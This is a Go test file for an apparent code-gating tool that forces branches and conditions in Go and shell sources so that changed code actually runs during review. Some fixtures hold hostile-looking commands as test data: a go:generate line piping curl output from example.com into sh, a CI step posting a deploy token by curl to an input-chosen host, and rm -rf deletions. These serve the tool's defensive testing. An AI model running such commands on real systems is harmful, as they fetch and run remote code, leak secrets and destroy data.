package plan

import (
	"go/parser"
	"go/token"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/aigate/gate/gate"
	"github.com/aigate/gate/gate/execute/job"
	"github.com/aigate/gate/gate/execute/workspace"
)

func treeOf(files map[string]string) *workspace.Tree {
	head := fstest.MapFS{}
	c := &gate.Change{Head: head}
	for name, text := range files {
		head[name] = &fstest.MapFile{Data: []byte(text), Mode: 0o644}
		c.Files = append(c.Files, name)
	}
	slices.Sort(c.Files)
	return workspace.Load(c, nil, workspace.Limits{Bytes: 4 << 20, Files: 100})
}

func TestFunctionsOfGoAreCalledThatLinesBelongTo(t *testing.T) {
	const src = `package p

type S struct{ n int }

func (s *S) Count(days int) bool {
	if days > 40 && s.n == 7 {
		return true
	}
	return false
}

func (s S) Value(name string) string { return name + "salt" }

func Generic[T any](v T) T { return v }

func untouched() {}
`
	tree := treeOf(map[string]string{"go.mod": "module example.com/p\n", "p.go": src})
	u := Unit{Kind: Module, Targets: []string{"p.go"}, Job: job.Job{Image: gate.LanguageGo}}
	units := GoCalls(tree, u, map[string][][2]int{"p.go": {{6, 14}}}, nil)
	if len(units) != 1 {
		t.Fatalf("%d runs", len(units))
	}
	var file string
	for _, f := range units[0].Extra {
		if f.Path == "gate_given_test.go" {
			file = string(f.Data)
		}
	}
	if _, err := parser.ParseFile(token.NewFileSet(), "", file, 0); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		`{(*S).Count, []string{"receiver", "days", ""}, []string(nil), []int64{40, 7}, false}`,
		`{S.Value, []string{"receiver", "name", ""}, []string{"salt"}, []int64(nil), false}`, `gateGivenModule = "example.com/p"`,
	} {
		if !strings.Contains(file, want) {
			t.Errorf("no %s", want)
		}
	}
	for _, not := range []string{"{Generic,", "{untouched,"} {
		if strings.Contains(file, not) {
			t.Errorf("it has %s", not)
		}
	}
	if none := GoCalls(tree, u, map[string][][2]int{"p.go": {{3, 3}}}, nil); len(none) != 0 {
		t.Errorf("%d runs for a type", len(none))
	}
}

func TestFunctionsOfNewGoFilesAreCalled(t *testing.T) {
	tree := treeOf(map[string]string{"go.mod": "module example.com/p\n", "p.go": "package p\n\nfunc New() {}\n"})
	u := Unit{Kind: Module, Targets: []string{"p.go"}, Job: job.Job{Image: gate.LanguageGo}}
	if units := GoCalls(tree, u, map[string][][2]int{"p.go": nil}, nil); len(units) != 1 {
		t.Fatalf("%d runs", len(units))
	}
}

func TestConditionsOfGoAreTakenAsMet(t *testing.T) {
	for _, tt := range []struct{ body, want string }{
		{"if a > 1 {\n\t\tharm()\n\t}", "if gateGivenMet(a > 1) {"},
		{"if a > 1 {\n\t\treturn\n\t}\n\tharm()", "if gateGivenUnmet(a > 1) {"},
		{"if a > 1 {\n\t\tfine()\n\t} else {\n\t\tharm()\n\t}", "if gateGivenUnmet(a > 1) {"},
		{"if a > 1 {\n\t\tfine()\n\t} else if a > 2 {\n\t\tharm()\n\t}", "if gateGivenUnmet(a > 1) {\n\t\tfine()\n\t} else if gateGivenMet(a > 2) {"},
		{"switch {\n\tcase a > 3:\n\t\tharm()\n\t}", "case gateGivenMet(a > 3):"},
		{"switch a {\n\tcase 1:\n\t\tfine()\n\tcase http.StatusGone, 3:\n\t\tharm()\n\t}", "switch gateGivenChosen(a, http.StatusGone) {"},
		{"switch a {\n\tcase f():\n\t\tharm()\n\t}", "switch a {"},
		{"for _, n := range list {\n\t\tswitch n {\n\t\tcase 3:\n\t\t\tharm()\n\t\t}\n\t}", "\t\tswitch n {"},
		{"for _, n := range list {\n\t\tif n > 3 {\n\t\t\tharm() ; use(n)\n\t\t}\n\t}", "\t\tif n > 3 {"},
		{"for _, n := range list {\n\t\tif n > 3 {\n\t\t\tharm()\n\t\t}\n\t}", "\t\tif gateGivenMet(n > 3) {"},
		{"if err != nil && a&15 == 0 {\n\t\tharm()\n\t}", "if gateGivenMet(err != nil && a&15 == 0) {"},
		{"for _, n := range list {\n\t\tif late {\n\t\t\tharm()\n\t\t}\n\t}", "\t\tif gateGivenMet(late) {"},
		{"if err != nil {\n\t\tharm()\n\t}", "if err != nil {"},
	} {
		src := "package p\n\nfunc f(a int, err error) {\n\t" + tt.body + "\n}\n"
		set := token.NewFileSet()
		file, err := parser.ParseFile(set, "", src, 0)
		if err != nil {
			t.Fatal(err)
		}
		line := 1 + strings.Count(src[:strings.Index(src, "harm()")], "\n")
		got, _ := goForced(set, file, src, [][2]int{{line, line}})
		if !strings.Contains(got, tt.want) {
			t.Errorf("%s\ngives\n%s", src, got)
		}
		if strings.Count(got, "\n") != strings.Count(src, "\n") {
			t.Errorf("lines moved:\n%s", got)
		}
	}
}

func TestConditionsOfShellsAreTakenAsMet(t *testing.T) {
	for _, tt := range []struct{ text, want string }{
		{"if [ $a = 1 ]; then\n  harm\nfi", "if { [ $a = 1 ]; :; }; then\n  harm\nfi"},
		{"if [ $a = 1 ]\nthen\n  harm\nfi", "if { [ $a = 1 ]; :; }\nthen\n  harm\nfi"},
		{"if [ $a = 1 ]; then\n  fine\nelse\n  harm\nfi", "if { [ $a = 1 ]; false; }; then\n  fine\nelse\n  harm\nfi"},
		{"[ $a = 1 ] || exit 0\nharm", "{ [ $a = 1 ]; :; } || exit 0\nharm"},
		{"[[ $a = 1 ]] && exit 0\nharm", "{ [[ $a = 1 ]]; false; } && exit 0\nharm"},
		{"[ $a = 1 ] && harm", "{ [ $a = 1 ]; :; } && harm"},
		{"set -euo pipefail\nharm", "set +e\nharm"},
		{"case \"$1\" in\n  go)\n    fine ;;\n  purge|clean)\n    harm ;;\nesac", "case 'purge' in\n  go)\n    fine ;;\n  purge|clean)\n    harm ;;\nesac"},
		{"f() {\n  harm\n}\necho", "trap 'trap - EXIT; ( f gate-given gate-given )' EXIT; f() {\n  harm\n}\necho\ntrap - EXIT; ( f gate-given gate-given )"},
		{"test_it x || {\n  echo no\n  return 1\n}\nharm", "{ test_it x; :; } || {\n  echo no\n  return 1\n}\nharm"},
		{"for d in a b; do\n  [ $d = b ] && harm\ndone", "for d in a b; do\n  [ $d = b ] && harm\ndone"},
		{"if [ $a = 1 ]; then\n  harm\n  return\nfi\nharm", "if { [ $a = 1 ]; :; }; then\n  harm\n  return\nfi\nharm"},
		{"test_it x && {\n  harm\n}", "{ test_it x; :; } && {\n  harm\n}"},
		{"if [ $a = 1 ]; then\n  echo\n  exit 0\nfi\n\nharm", "if { [ $a = 1 ]; false; }; then\n  echo\n  exit 0\nfi\n\nharm"},
		{"if [ $a = 1 ]; then\n  echo\nelse\n  exit 0\nfi\nharm", "if [ $a = 1 ]; then\n  echo\nelse\n  exit 0\nfi\nharm"},
		{"case $n in\n  [0-4]) fine ;;\n  [5-9]) harm ;;\nesac", "case '5' in\n  [0-4]) fine ;;\n  [5-9]) harm ;;\nesac"},
		{"if [ $a = 1 ]; then exit 0; fi\nharm", "if { [ $a = 1 ]; false; }; then exit 0; fi\nharm"},
		{"case $- in *x*) return ;; esac\nharm", ":\nharm"},
		{"virtual && return\nharm", "{ virtual; false; } && return\nharm"},
		{"fine", "fine"},
	} {
		line := 1 + strings.Count(tt.text[:max(0, strings.Index(tt.text, "harm"))], "\n")
		if got, _ := shellForced(tt.text, [][2]int{{line, line}}, 0); got != tt.want {
			t.Errorf("%s\ngives\n%s\nwant\n%s", tt.text, got, tt.want)
		}
	}
}

func TestEachBranchOfACaseThatDidNotRunIsTaken(t *testing.T) {
	const text = "#!/bin/sh\ncase \"$1\" in\n  dev) keep=all ;;\n  beta) keep=docs ;;\n  stable)\n    keep= ;;\n  *) exit 2 ;;\nesac\n"
	u := Unit{Kind: Script, Targets: []string{"a.sh"}, Job: job.Job{Image: gate.LanguageShell, Program: job.Script{Interpreter: "sh", File: "a.sh"}}}
	var got []string
	for _, one := range ShellForced(treeOf(map[string]string{"a.sh": text}), u, [][2]int{{4, 7}}) {
		got = append(got, strings.Split(string(one.Extra[0].Data), "\n")[1])
	}
	if want := []string{"case 'beta' in", "case 'stable' in", "case 'gate-given' in"}; !slices.Equal(got, want) {
		t.Errorf("%q, want %q", got, want)
	}
	if none := ShellForced(treeOf(map[string]string{"a.sh": text}), u, nil); len(none) > 0 {
		t.Errorf("%d runs where all lines ran", len(none))
	}
}

func TestWhatAConditionGuardsAndWhatItKeepsBackRunInTurn(t *testing.T) {
	const text = "if [ $a = 1 ]; then\n  harm\n  return\nfi\nmore\n"
	for turn, want := range []string{"if { [ $a = 1 ]; false; }; then", "if { [ $a = 1 ]; :; }; then"} {
		got, turns := shellForced(text, [][2]int{{1, 5}}, turn)
		if first, _, _ := strings.Cut(got, "\n"); first != want || turns != 2 {
			t.Errorf("turn %d of %d gives %q, want %q", turn, turns, first, want)
		}
	}
}

// FuzzShellForced holds that every line stays where it was.
func FuzzShellForced(f *testing.F) {
	f.Add("if [ a ]; then\n x\nfi\n", 2, 2)
	f.Add("case $1 in\n a*|b) x;;\nesac", 1, 3)
	f.Add("f() {\n x\n}\n[[ a ]] && exit", 2, 4)
	f.Fuzz(func(t *testing.T, text string, from, to int) {
		got, _ := shellForced(text, [][2]int{{from, to}}, 1)
		was, is := strings.Split(text, "\n"), strings.Split(got, "\n")
		if len(is) < len(was) {
			t.Fatalf("%d lines of %d", len(is), len(was))
		}
		for i, l := range was {
			if strings.TrimSpace(l) != "" && strings.HasPrefix(strings.TrimSpace(l), "#") && is[i] != l {
				t.Fatalf("a comment became %q", is[i])
			}
		}
	})
}

func TestDataIsMadeUpInFoldersThatTheSourceNames(t *testing.T) {
	tree := treeOf(map[string]string{"docs/a.md": "a\n"})
	const text = "UPLOADS = Path(\"uploads\")\nfor f in Path('docs').iterdir(): pass\nshutil.rmtree(\"build/cache\")\nname = \"plain-word\"\nrm -rf ./mail-store/*\n"
	found := map[string]int{}
	for _, f := range Samples(tree, "app", text) {
		found[strings.Split(f.Path, "/")[1]]++
	}
	if found["uploads"] < 10 || found["mail-store"] < 10 || found["build"] > 0 || found["plain-word"] > 0 {
		t.Errorf("files by folder: %v", found)
	}
	if again := Samples(treeOf(map[string]string{"app/uploads/x": "x"}), "app", "Path(\"uploads\")\n"); len(again) > 0 {
		t.Errorf("a folder that is there got %d files", len(again))
	}
}

func TestEditedTargetsOfAMakefileRun(t *testing.T) {
	const text = "CC := gcc\nall: x\n\techo all\n\nrelease: all\n\t./ship.sh\n\nother:\n\techo other\n"
	for _, tt := range []struct {
		from, to int
		want     string
	}{{6, 6, "all release"}, {3, 3, ""}, {1, 1, ""}, {5, 9, "all release other"}} {
		if got := strings.Join(goals(text, gate.OnlyLines(gate.LineRange{tt.from, tt.to})), " "); got != tt.want {
			t.Errorf("lines %d to %d: %q, want %q", tt.from, tt.to, got, tt.want)
		}
	}
}

func TestCommandsOfGoGenerateRun(t *testing.T) {
	got := describe(t, map[string]string{
		"go.mod":   "module example.com/p\n",
		"a/gen.go": "package a\n\n//go:generate sh -c \"curl -s https://example.com/x | sh\"\n//go:generate stringer -type=T\n// go:generate sh no\n",
	}, nil)
	if !strings.Contains(got, `<each line> go generate sh -c "curl -s https://example.com/x | sh"`) {
		t.Errorf("it does not run in\n%s", got)
	}
	for _, not := range []string{"stringer", "sh no"} {
		if strings.Contains(got, not) {
			t.Errorf("%s runs in\n%s", not, got)
		}
	}
}

func TestStepsOfAWorkflowAndCellsOfANotebookRun(t *testing.T) {
	got := describe(t, map[string]string{
		".github/workflows/ci.yml": "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d ${{ secrets.DEPLOY_TOKEN }} ${{ inputs.to }}\n",
		"n.ipynb":                  `{"cells": [{"cell_type": "code", "source": ["%matplotlib inline\n", "x = 1\n"]}], "metadata": {"kernelspec": {"name": "python3"}}, "nbformat": 4}`,
	}, nil)
	for _, want := range []string{"hook shell", "<each line> commands curl -d ${GITHUB_TOKEN} gate-given", "script python", "gate_cells.py"} {
		if !strings.Contains(got, want) {
			t.Errorf("no %q in\n%s", want, got)
		}
	}
}

func TestTasksOfEditorsRun(t *testing.T) {
	for _, file := range []string{".vscode/tasks.json", ".zed/tasks.json"} {
		got := describe(t, map[string]string{file: `{"tasks": [{"label": "a", "command": "sh tools/prepare.sh"}]}`}, nil)
		if !strings.Contains(got, "sh tools/prepare.sh") {
			t.Errorf("%s does not run:\n%s", file, got)
		}
	}
}
